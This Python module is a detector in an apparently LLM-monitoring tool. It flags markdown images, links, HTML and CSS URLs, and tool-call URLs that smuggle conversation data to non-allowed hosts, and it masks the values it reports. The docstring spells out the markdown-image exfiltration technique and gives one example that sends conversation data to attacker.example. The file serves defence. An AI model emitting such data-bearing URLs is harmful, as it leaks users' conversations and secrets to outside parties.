"""Tier 2 of detection: ``exfil`` — URLs that carry data out of the conversation.

The classic LLM exfiltration is a markdown image the client renders without a click
(``![](https://attacker.example/log?d=<conversation>)``, ATLAS AML.T0077); links the user is
nudged to click and tool calls that fetch a URL do the same with one more step. This detector
finds markdown images (inline and reference-style), HTML ``<img src>`` and CSS ``url(…)``,
markdown links and bare URLs in ``content`` and ``tool.arguments``; for each URL whose host is not
in ``allow_hosts`` it asks whether the URL *carries data*: a query value or fragment that is
long (24+) and not a slug, looks base64 / hex / random, reads as text ("my+password+is…"), or
repeats text from earlier events of the same trace (bounded: the last 32 events, 64 KB). Path
segments count only when they decode to text, read as text, repeat the trace or are very long
(64+): opaque ids in paths (shared documents, object keys) are addresses.

Labels: ``markdown_image_exfil`` (0.9, images incl. HTML/CSS), ``link_exfil`` (0.7),
``url_with_data`` (0.6, bare URLs and tool arguments), and one informational ``external_url``
(0.1) listing the non-allowed hosts. ``detail`` names hosts and which parameters looked like data
and why, with lengths — never the values: snippets show the URL with those values cut to four
characters. Tracking and signing parameters (``utm_*``, ``X-Amz-*``, SAS tokens) are ignored.

Option ``allow_hosts``: host names; ``example.com`` matches that host only, ``*.corp.example``
matches ``corp.example`` and every subdomain. This module must never fetch a URL, never log
content and never decide.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, ClassVar
from urllib.parse import parse_qsl, unquote, urlsplit

from garrison.detect.base import ScanContext
from garrison.detect.detectors.secrets import shannon_entropy
from garrison.detect.detectors.signatures import (
    CONTENT_KINDS,
    MAX_EVIDENCE,
    SNIPPET_CHARS,
    check_options,
    evidence,
    iter_views,
    option_strings,
)
from garrison.errors import ConfigError
from garrison.model import Event, EventKind
from garrison.model.finding import Evidence, Finding

LABEL_SCORES = {
    "markdown_image_exfil": 0.9,
    "link_exfil": 0.7,
    "url_with_data": 0.6,
    "external_url": 0.1,
}
TAGS = {
    "markdown_image_exfil": (
        "atlas.AML.T0077",
        "atlas.AML.T0057",
        "owasp-llm-2025.LLM02",
        "owasp-llm-2025.LLM05",
    ),
    "link_exfil": ("atlas.AML.T0057", "owasp-llm-2025.LLM02"),
    "url_with_data": ("atlas.AML.T0057", "owasp-llm-2025.LLM02"),
    "external_url": (),
}
TAG_TOOL_EXFIL = "atlas.AML.T0086"  # Exfiltration via AI Agent Tool Invocation
MAX_URLS = 64  # per view
MAX_HOSTS = 20
TRACE_EVENTS = 32
TRACE_CHARS = 65_536
DATA_MIN = 24  # a query value this long (and not a slug) carries data
PATH_DATA_MIN = 64  # a path segment must be this long to count as data by length alone

_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,300})\]\(\s*<?(https?://[^\s)>]+)", re.IGNORECASE)
_MD_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,300})\]\(\s*<?(https?://[^\s)>]+)", re.IGNORECASE)
_MD_REF_IMAGE = re.compile(r"!\[([^\]\n]{0,300})\]\[([^\]\n]{1,100})\]")
_MD_REF_DEF = re.compile(
    r"(?:^|\n)[ \t]{0,3}\[([^\]\n]{1,100})\]:[ \t]*<?(https?://[^\s>]+)", re.IGNORECASE
)
_HTML_IMG = re.compile(
    r"<(?:img|image|source|video|audio|iframe|embed|input)\b[^>]{0,500}?\b(?:src|srcset|poster|data)"
    r"\s*=\s*[\"']?(https?://[^\"'\s>]+)",
    re.IGNORECASE,
)
_CSS_URL = re.compile(r"url\(\s*[\"']?(https?://[^\"')\s]+)", re.IGNORECASE)
_HTML_LINK = re.compile(r"<a\b[^>]{0,500}?\bhref\s*=\s*[\"']?(https?://[^\"'\s>]+)", re.IGNORECASE)
_BARE = re.compile(r"https?://[^\s<>\"'`)\]}|\\^]+", re.IGNORECASE)

_SLUG = re.compile(r"[a-z0-9]+(?:[-_.~][a-z0-9]+)*")
_UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", re.I)
_HEX = re.compile(r"[0-9a-fA-F]+")
_B64 = re.compile(r"[A-Za-z0-9+/_\-]+={0,2}")
_WORDS = re.compile(r"[^\W_]{2,}")
_HOST = re.compile(
    r"(?:\*\.)?(?:[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?\.)*[a-z0-9](?:[a-z0-9\-]{0,61}[a-z0-9])?"
)
# Parameters that carry tracking or request signatures, not conversation data.
_IGNORED_PARAM = re.compile(
    r"utm_\w*|fbclid|gclid|dclid|msclkid|mc_[ce]id|_ga|_gl|x-amz-\w+|x-goog-\w+|sig|signature|"
    r"sv|se|sp|sr|st|spr|skoid|sktid|skt|ske|sks|skv|policy|key-pair-id|expires",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True)
class FoundUrl:
    url: str
    kind: str  # image | link | bare
    start: int
    end: int


def find_urls(text: str) -> list[FoundUrl]:
    """URLs in ``text``, each once, with how they would be rendered."""
    if "http" not in text and "HTTP" not in text and "Http" not in text:
        return []
    out: list[FoundUrl] = []
    covered: list[tuple[int, int]] = []

    def add(url: str, kind: str, a: int, b: int) -> None:
        if len(out) < MAX_URLS:
            out.append(FoundUrl(url, kind, a, b))
            covered.append((a, b))

    for m in _MD_IMAGE.finditer(text):
        add(m.group(2), "image", m.start(2), m.end(2))
    for rx in (_HTML_IMG, _CSS_URL):
        for m in rx.finditer(text):
            add(m.group(1), "image", m.start(1), m.end(1))
    refs = (
        {m.group(2).strip().lower() for m in _MD_REF_IMAGE.finditer(text)}
        if "![" in text
        else set()
    )
    for m in _MD_REF_DEF.finditer(text):
        add(
            m.group(2),
            "image" if m.group(1).strip().lower() in refs else "link",
            m.start(2),
            m.end(2),
        )
    for m in _MD_LINK.finditer(text):
        if not any(a <= m.start(2) < b for a, b in covered):
            add(m.group(2), "link", m.start(2), m.end(2))
    for m in _HTML_LINK.finditer(text):
        if not any(a <= m.start(1) < b for a, b in covered):
            add(m.group(1), "link", m.start(1), m.end(1))
    for m in _BARE.finditer(text):
        if any(a <= m.start() < b for a, b in covered):
            continue
        url = m.group().rstrip(".,;:!?*")
        add(url, "bare", m.start(), m.start() + len(url))
    return out


def host_of(url: str) -> str | None:
    try:
        host = urlsplit(url).hostname
    except ValueError:
        return None
    return host.rstrip(".").lower() if host else None


@dataclass(frozen=True, slots=True)
class DataPart:
    where: str  # "query:<name>", "path", "fragment"
    raw: str  # as written in the URL (only used to mask snippets)
    reasons: tuple[str, ...]
    length: int


class _Trace:
    """Earlier events' text, lower-cased and whitespace-collapsed, built on first use."""

    def __init__(self, events: tuple[Event, ...]) -> None:
        self._events = events
        self._text: str | None = None

    @property
    def text(self) -> str:
        if self._text is None:
            parts: list[str] = []
            size = 0
            for ev in reversed(self._events[-TRACE_EVENTS:]):
                for s in (ev.content, ev.tool.arguments if ev.tool else None):
                    if s and size < TRACE_CHARS:
                        parts.append(s[: TRACE_CHARS - size])
                        size += len(parts[-1])
            self._text = " ".join(" ".join(parts).lower().split())
        return self._text

    def mentions_url(self, url: str) -> bool:
        """Whether the URL itself (without scheme) appeared earlier in the trace — a link the
        agent was given (search results, a page, the user's message), not data it assembled."""
        if not self._events:
            return False
        bare = url.lower().split("://", 1)[-1].rstrip("/")
        return len(bare) >= 12 and bare in self.text

    def contains(self, value: str) -> bool:
        """Whether ``value`` repeats earlier text: a long token, or three words in a row."""
        if not self._events:
            return False
        low = " ".join(value.lower().split())
        if len(low) >= 12 and " " not in low:
            return low in self.text
        words = _WORDS.findall(low)
        if len(words) < 3:
            return False
        for i in range(min(len(words) - 2, 16)):
            gram = " ".join(words[i : i + 3])
            if len(gram) >= 12 and gram in self.text:
                return True
        return False


def _decoded_base64(value: str) -> str | None:
    if len(value) < 16 or not _B64.fullmatch(value):
        return None
    body = value.rstrip("=")
    try:
        raw = base64.urlsafe_b64decode(
            body.replace("+", "-").replace("/", "_") + "=" * (-len(body) % 4)
        )
        text = raw.decode("utf-8")
    except (binascii.Error, ValueError):
        return None
    printable = sum(c.isprintable() or c.isspace() for c in text)
    return text if text and printable >= 0.9 * len(text) else None


def data_reasons(value: str, where: str, trace: _Trace) -> tuple[str, ...]:
    """Why a URL component looks like data rather than an address ("" when it does not)."""
    v = value.strip()
    if len(v) < 8 or _UUID.fullmatch(v):
        return ()
    reasons: list[str] = []
    stem = v.rsplit(".", 1)[0] if where == "path" and "." in v[-6:] else v
    if where == "path" and _HEX.fullmatch(stem):  # commit ids, content hashes, numeric ids
        return ("trace",) if trace.contains(v) else ()
    slug = bool(_SLUG.fullmatch(stem)) and sum(c.isdigit() for c in stem) <= 0.3 * len(stem)
    words = v.split()
    if len(words) >= 3 and len(v) >= 16:
        reasons.append("text")
    elif len(stem) >= DATA_MIN and not slug:
        reasons.append("long")
    decoded = None
    if not slug and len(stem) >= 16:
        if _HEX.fullmatch(stem) and len(stem) >= 24 and where != "path":
            reasons.append("hex")
        elif _B64.fullmatch(stem):
            kinds = sum(
                (
                    any(c.islower() for c in stem),
                    any(c.isupper() for c in stem),
                    any(c.isdigit() for c in stem),
                )
            )
            decoded = _decoded_base64(stem)
            if decoded is not None or (kinds == 3 and shannon_entropy(stem) >= 3.5):
                reasons.append("base64")
    if trace.contains(v) or (decoded is not None and trace.contains(decoded)):
        reasons.append("trace")
    if where == "path":
        # opaque ids in paths (shared documents, object keys) are addresses, not data, unless
        # they decode to text, read as text, repeat the conversation or are very long
        keep = {"text", "trace"} | ({"base64"} if decoded is not None else set())
        if len(stem) >= PATH_DATA_MIN:
            keep.add("long")
        reasons = [r for r in reasons if r in keep]
    return tuple(dict.fromkeys(reasons))


_NO_TRACE = _Trace(())


def url_data(url: str, trace: _Trace) -> list[DataPart]:
    try:
        parts = urlsplit(url)
    except ValueError:
        return []
    if trace.mentions_url(url):
        # Repeating the conversation is expected of a URL the conversation already contained.
        trace = _NO_TRACE
    out: list[DataPart] = []
    if parts.query:
        for name, value in parse_qsl(parts.query, keep_blank_values=True):
            if _IGNORED_PARAM.fullmatch(name):
                continue
            candidate = value or name  # "?<blob>" has the data in the name
            reasons = data_reasons(candidate, "query", trace)
            if reasons:
                raw = candidate if candidate in parts.query else name
                out.append(
                    DataPart(
                        f"query:{name[:40]}" if value else "query", raw, reasons, len(candidate)
                    )
                )
    for segment in parts.path.split("/"):
        if segment:
            value = unquote(segment)
            reasons = data_reasons(value, "path", trace)
            if reasons:
                out.append(DataPart("path", segment, reasons, len(value)))
    if parts.fragment:
        value = unquote(parts.fragment)
        reasons = data_reasons(value, "fragment", trace)
        if reasons:
            out.append(DataPart("fragment", parts.fragment, reasons, len(value)))
    return out


def redact_url(url: str, parts: list[DataPart]) -> str:
    """The URL with each data value cut to its first four characters."""
    for part in parts:
        if len(part.raw) > 4:
            url = url.replace(part.raw, part.raw[:4] + "…")
    return url


@dataclass(slots=True)
class _Found:
    hosts: list[str] = field(default_factory=list)
    params: list[dict[str, Any]] = field(default_factory=list)
    evidence: list[Evidence] = field(default_factory=list)
    count: int = 0
    tool_arguments: bool = False


class ExfilDetector:
    """``exfil``: markdown images, links and URLs that carry data to non-allowed hosts.

    Options: ``allow_hosts`` (``example.com`` exactly, ``*.corp.example`` with subdomains)."""

    id: ClassVar[str] = "exfil"
    version: ClassVar[str] = "1.0"
    kinds: ClassVar[frozenset[EventKind]] = CONTENT_KINDS

    def __init__(self, options: Mapping[str, Any] | None = None) -> None:
        opts = check_options(self.id, options, ("allow_hosts",))
        exact: set[str] = set()
        suffixes: list[str] = []
        for host in option_strings(self.id, opts, "allow_hosts"):
            h = host.strip().rstrip(".").lower()
            if not _HOST.fullmatch(h):
                raise ConfigError(
                    f"detector {self.id!r}: option 'allow_hosts': {host!r} is not a host name "
                    "(example.com or *.example.com)",
                    field=f"detection.detectors.{self.id}.allow_hosts",
                )
            if h.startswith("*."):
                suffixes.append(h[2:])
            else:
                exact.add(h)
        self.allow_exact = frozenset(exact)
        self.allow_suffixes = tuple(suffixes)

    def allowed(self, host: str) -> bool:
        if host in self.allow_exact:
            return True
        return any(host == s or host.endswith("." + s) for s in self.allow_suffixes)

    async def detect(self, ctx: ScanContext) -> list[Finding]:
        trace = _Trace(tuple(ctx.trace.events))
        found: dict[str, _Found] = {}
        external: list[str] = []
        for field_path in ctx.fields():
            nt = ctx.normalized(field_path)
            for view in iter_views(nt, folded=False):
                if view.name not in ("text", "hidden"):
                    continue
                for u in find_urls(view.text):
                    host = host_of(u.url)
                    if host is None or self.allowed(host):
                        continue
                    if host not in external and len(external) < MAX_HOSTS:
                        external.append(host)
                    parts = url_data(u.url, trace)
                    if not parts:
                        continue
                    label = {"image": "markdown_image_exfil", "link": "link_exfil"}.get(
                        u.kind, "url_with_data"
                    )
                    acc = found.setdefault(label, _Found())
                    acc.count += 1
                    acc.tool_arguments = acc.tool_arguments or field_path.startswith("tool.")
                    if host not in acc.hosts and len(acc.hosts) < MAX_HOSTS:
                        acc.hosts.append(host)
                    for part in parts:
                        if len(acc.params) < 2 * MAX_EVIDENCE:
                            acc.params.append(
                                {
                                    "host": host,
                                    "where": part.where,
                                    "reasons": list(part.reasons),
                                    "length": part.length,
                                }
                            )
                    if len(acc.evidence) < MAX_EVIDENCE:
                        shown = redact_url(u.url, parts)[:SNIPPET_CHARS]
                        acc.evidence.append(
                            evidence(nt, field_path, view, u.start, u.end, snippet_text=shown)
                        )
        findings = [
            Finding(
                event_id=ctx.event.id,
                detector=self.id,
                version=self.version,
                label=label,
                score=LABEL_SCORES[label],
                tags=TAGS[label] + ((TAG_TOOL_EXFIL,) if acc.tool_arguments else ()),
                evidence=tuple(acc.evidence),
                detail={"hosts": acc.hosts, "params": acc.params, "count": acc.count},
            )
            for label, acc in found.items()
        ]
        if external:
            findings.append(
                Finding(
                    event_id=ctx.event.id,
                    detector=self.id,
                    version=self.version,
                    label="external_url",
                    score=LABEL_SCORES["external_url"],
                    detail={"hosts": external},
                )
            )
        return findings

    async def aclose(self) -> None:
        return None


__all__ = ["ExfilDetector", "FoundUrl", "data_reasons", "find_urls", "host_of", "url_data"]
